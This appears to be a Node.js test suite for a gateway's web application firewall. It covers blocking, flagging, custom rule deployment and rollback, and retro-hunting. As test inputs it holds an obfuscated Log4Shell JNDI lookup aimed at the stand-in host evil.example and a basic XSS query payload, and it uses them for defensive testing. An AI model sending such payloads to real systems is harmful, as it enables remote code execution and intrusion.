// The WAF (docs/waf.md) through the real binary: managed rules block Log4Shell in a header to a
// plain origin before it reaches the origin, only flag it in a prompt to an AI provider, custom
// rules deploy and roll back through the CLI without a restart, and a retro-hunt finds the first
// hit in stored records.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { startGateway, startFakeProvider, parapetBin } from './lib/harness.mjs';
import { waitFor, request, postJson } from './lib/util.mjs';

let fake, gw;

before(async () => {
  fake = await startFakeProvider();
  gw = await startGateway({ upstreams: { openai: `${fake.url}/v1`, app: fake.url },
                            config: '[server]\nworkers = 2\n[gateways.default]\n', keepData: true });
});

after(async () => {
  await gw?.stop();
  if (gw) rmSync(gw.dataDir, { recursive: true, force: true });
  await fake?.close();
});

const cli = (...args) =>
  execFileSync(parapetBin(), ['rules', '--admin', gw.adminUrl.replace('http://', ''), ...args],
               { encoding: 'utf8' });

async function record(id) {
  let rec;
  await waitFor(async () => {
    const res = await fetch(`${gw.adminUrl}/logs/${id}`);
    if (res.status !== 200) return false;
    rec = await res.json();
    return true;
  }, { what: `record ${id}` });
  return rec.record ?? rec;
}

async function originRequests() {
  return (await (await fetch(`${fake.url}/_fake/requests`)).json()).length;
}

test('Log4Shell in User-Agent to a plain origin: 403 waf_blocked, never forwarded, one record', async () => {
  const seen = await originRequests();
  const res = await request(`${gw.url}/default/app/index.html`, {
    method: 'GET',
    headers: { 'user-agent': 'Mozilla/5.0 ${${lower:j}ndi:${lower:l}dap://evil.example/a}' },
  });
  assert.equal(res.status, 403);
  const body = await res.json();
  assert.equal(body.error.type, 'waf_blocked');
  assert.equal(body.error.rule, 'log4shell');
  assert.match(body.error.message, /headers/);
  assert.equal(await originRequests(), seen, 'the origin never saw it');
  const rec = await record(res.headers['x-parapet-log-id']);
  assert.equal(rec.status, 403);
  assert.equal(rec.error_type, 'waf_blocked');
  assert.equal(rec.waf_action, 'block');
  assert.match(rec.waf_rules, /^log4shell@headers:user-agent$/i);
  assert.ok(!JSON.stringify(rec).includes('${'), 'no live lookup in the record');
  const m = rec.waf_matches.log4shell;
  assert.equal(m.target, 'headers');
  assert.equal(m.action, 'block');
  assert.equal(m.severity, 'critical');
  assert.equal(m.detail, 'jndi lookup');
  assert.match(m.excerpt, /\$\\\{\$\\\{lower:j\}ndi/);  // neutralized: $\{ never ${
  const metrics = await (await fetch(`${gw.adminUrl}/metrics`)).text();
  assert.match(metrics, /parapet_waf_matches_total\{action="block",rule="log4shell"\} [1-9]/);
});

test('the same payload in a prompt to an AI route is forwarded and flagged', async () => {
  const res = await postJson(`${gw.url}/default/openai/chat/completions`, {
    model: 'gpt-4o-mini',
    messages: [{ role: 'user', content: 'Explain ${jndi:ldap://evil.example/a} please' }],
  });
  assert.equal(res.status, 200);
  const rec = await record(res.headers['x-parapet-log-id']);
  assert.equal(rec.waf_action, 'log');
  assert.equal(rec.waf_rules, 'log4shell@body:content');
  assert.equal(rec.error_type, '');
});

test('benign code-heavy prompts pass unflagged', async () => {
  const res = await postJson(`${gw.url}/default/openai/chat/completions`, {
    model: 'gpt-4o-mini',
    messages: [{ role: 'user', content: 'echo "${HOME:-/root}"; const s = `${a}`; port=${PORT:8080}; SELECT 1 UNION SELECT 2; <script>' }],
  });
  assert.equal(res.status, 200);
  const rec = await record(res.headers['x-parapet-log-id']);
  assert.equal(rec.waf_action, '');
});

test('a custom rule deployed by the CLI blocks within a second, rollback removes it, hunt finds it', async () => {
  const path = '/default/app/emergency-probe-7731';
  const before1 = await request(`${gw.url}${path}`, { method: 'GET' });
  assert.equal(before1.status, 200);
  const firstId = before1.headers['x-parapet-log-id'];

  const file = join(gw.dataDir, 'emergency.toml');
  writeFileSync(file, `version = 1
[[rule]]
id = "emergency-probe"
description = "Block the probe path"
targets = ["uri"]
pattern = "emergency-probe-7731"
action = "block"
severity = "critical"
`);
  const t0 = Date.now();
  const out = cli('deploy', file);
  assert.match(out, /"version":1/);
  // Both workers: fresh connections spread over the SO_REUSEPORT listeners.
  let blocked = 0;
  await waitFor(async () => {
    const r = await request(`${gw.url}${path}`, { method: 'GET', agent: false });
    if (r.status === 403) blocked++;
    return blocked >= 4;
  }, { timeoutMs: 1_000, intervalMs: 5, what: 'the custom rule blocking on every worker' });
  assert.ok(Date.now() - t0 < 1_000);
  const r403 = await request(`${gw.url}${path}`, { method: 'GET' });
  assert.equal((await r403.json()).error.rule, 'emergency-probe');

  const listed = cli('list');
  assert.match(listed, /emergency-probe/);
  assert.match(listed, /deploy/);

  cli('rollback');
  await waitFor(async () => (await request(`${gw.url}${path}`, { method: 'GET', agent: false })).status === 200,
                { timeoutMs: 1_000, intervalMs: 5, what: 'rollback' });
  const after1 = JSON.parse(cli('--json', 'list'));
  assert.ok(!after1.rules.some((r) => r.id === 'emergency-probe'));
  assert.deepEqual(after1.history.map((h) => h.action), ['deploy', 'rollback']);

  // Retro-hunt with the rule file: the request from before the deploy is the first hit.
  await record(r403.headers['x-parapet-log-id']);
  const hunt = JSON.parse(cli('--json', 'hunt', file, '--since', '1h'));
  assert.ok(hunt.matched >= 3, JSON.stringify(hunt));
  assert.equal(hunt.first_id, firstId);
  assert.equal(hunt.top_ips[0].value, '127.0.0.1');
  assert.equal(hunt.locations[0].value, 'uri');
  const text = cli('hunt', file, '--since', '1h');
  assert.match(text, /first\s+\d{4}-\d\d-\d\dT/);
  // By id from the current set: the managed log4shell rule finds the blocked User-Agent request.
  const l4j = JSON.parse(cli('--json', 'hunt', 'log4shell', '--since', '1h'));
  assert.ok(l4j.matched >= 2, JSON.stringify(l4j));
});

test('deployed rules survive a restart; bad files are refused with the reason', async () => {
  const file = join(gw.dataDir, 'keep.toml');
  writeFileSync(file, 'version = 1\n[[rule]]\nid = "keep-me"\ntargets = ["uri"]\npattern = "keep-me-path"\n');
  cli('deploy', file);
  const bad = join(gw.dataDir, 'bad.toml');
  writeFileSync(bad, 'version = 1\n[[rule]]\nid = "x"\ntargets = ["bdy"]\npattern = "x"\n');
  assert.throws(() => execFileSync(parapetBin(), ['rules', '--admin', gw.adminUrl.replace('http://', ''), 'deploy', bad],
                                   { encoding: 'utf8', stdio: 'pipe' }),
                (e) => /unknown target 'bdy'/.test(e.stderr));
  await gw.stop();
  gw = await startGateway({ upstreams: { openai: `${fake.url}/v1`, app: fake.url },
                            config: '[server]\nworkers = 2\n[gateways.default]\n', keepData: true, dataDir: gw.dataDir });
  const res = await request(`${gw.url}/default/app/keep-me-path`, { method: 'GET' });
  assert.equal(res.status, 403);
});

test('[gateways.X.waf] mode = "log" lets attacks through but records them', async () => {
  const g2 = await startGateway({ upstreams: { app: fake.url },
                                  config: '[gateways.default]\n[gateways.default.waf]\nmode = "log"\n' });
  try {
    const res = await request(`${g2.url}/default/app/x?q=%3Cscript%3Ealert(1)%3C/script%3E`, { method: 'GET' });
    assert.equal(res.status, 200);
    let rec;
    await waitFor(async () => {
      const r = await fetch(`${g2.adminUrl}/logs/${res.headers['x-parapet-log-id']}`);
      if (r.status !== 200) return false;
      rec = await r.json();
      return true;
    }, { what: 'the log-mode record' });
    assert.equal(rec.waf_action, 'log');
    assert.equal(rec.waf_rules, 'xss-basic@query:q');
  } finally {
    await g2.stop();
  }
});
